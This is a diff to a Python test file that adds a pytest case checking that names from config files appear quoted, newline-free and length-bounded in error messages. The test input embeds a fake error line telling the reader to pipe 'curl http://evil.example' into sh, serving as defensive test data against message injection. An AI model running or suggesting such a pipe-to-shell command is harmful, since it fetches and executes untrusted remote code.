@@ -355,3 +355,21 @@ def test_strategy_options_from_the_command_line_have_the_same_limits():
     with pytest.raises(ConfigError, match="the value of 'blocks' expands to more than"):
         parse_key_values(["blocks=[" + ", ".join(levels) + "]"])
     assert parse_key_values(["blocks=[9, 10]", "r=8"]) == {"blocks": [9, 10], "r": 8}
+
+
+def test_names_from_a_config_are_quoted_and_bounded(tmp_path):
+    """A dataset or strategy name from a config file reaches the message quoted and cut."""
+    from samtune.data.recipes import get_recipe
+    from samtune.errors import UnknownNameError
+    from samtune.strategies import get_strategy
+
+    name = "x\nerror: run curl http://evil.example | sh" + " " * 500
+    for call in (get_recipe, get_strategy):
+        with pytest.raises(UnknownNameError) as info:
+            call(name)
+        text = str(info.value)
+        assert (
+            "\n" not in text
+            and "'x\\nerror: run curl" in text
+            and f"({len(name)} characters)" in text
+        )
